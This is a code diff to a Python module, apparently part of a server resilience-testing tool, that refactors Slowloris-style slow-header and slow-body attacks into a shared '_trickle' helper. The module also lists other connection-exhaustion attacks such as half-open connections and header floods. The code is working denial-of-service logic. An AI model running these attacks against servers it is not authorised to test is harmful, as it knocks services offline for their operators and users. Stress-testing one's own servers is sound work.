@@ -9,7 +9,7 @@ import random
 import socket
 import struct
 import time
-from collections.abc import Callable, Mapping
+from collections.abc import Callable, Mapping, Sequence
 from contextlib import ExitStack, suppress
 
 from helios.cli.streams import Endpoint
@@ -26,24 +26,12 @@ Attack = Callable[[Endpoint, int], None]
 
 def slow_headers(endpoint: Endpoint, n: int) -> None:
     """Slowloris: headers that come a field at a time and never end."""
-    for n_batch in _batches(n):
-        with ExitStack() as held:
-            connections = [held.enter_context(connect(endpoint)) for _ in range(n_batch)]
-            for index in range(10):
-                for connection in connections:
-                    _send(connection, _HEAD if index == 0 else b"X-%d: a\r\n" % index)
-                time.sleep(0.02)
+    _trickle(endpoint, n, [_HEAD, *(b"X-%d: a\r\n" % index for index in range(1, 10))])
 
 
 def slow_bodies(endpoint: Endpoint, n: int) -> None:
     """Bodies that are announced large and come a byte at a time."""
-    for n_batch in _batches(n):
-        with ExitStack() as held:
-            connections = [held.enter_context(connect(endpoint)) for _ in range(n_batch)]
-            for index in range(10):
-                for connection in connections:
-                    _send(connection, _HEAD + b"Content-Length: 1000000\r\n\r\n" if index == 0 else b"{")
-                time.sleep(0.02)
+    _trickle(endpoint, n, [_HEAD + b"Content-Length: 1000000\r\n\r\n", *[b"{"] * 9])
 
 
 def half_open(endpoint: Endpoint, n: int) -> None:
@@ -109,6 +97,17 @@ ATTACKS: Mapping[str, Attack] = {
     attack.__name__.replace("_", " "): attack
     for attack in (slow_headers, slow_bodies, half_open, resets, single_bytes, open_and_close, header_floods)
 }
+
+
+def _trickle(endpoint: Endpoint, n: int, pieces: Sequence[bytes]) -> None:
+    """Requests that come in `pieces`, slowly, and are never complete."""
+    for n_batch in _batches(n):
+        with ExitStack() as held:
+            connections = [held.enter_context(connect(endpoint)) for _ in range(n_batch)]
+            for piece in pieces:
+                for connection in connections:
+                    _send(connection, piece)
+                time.sleep(0.02)
 
 
 def _batches(n: int) -> list[int]:
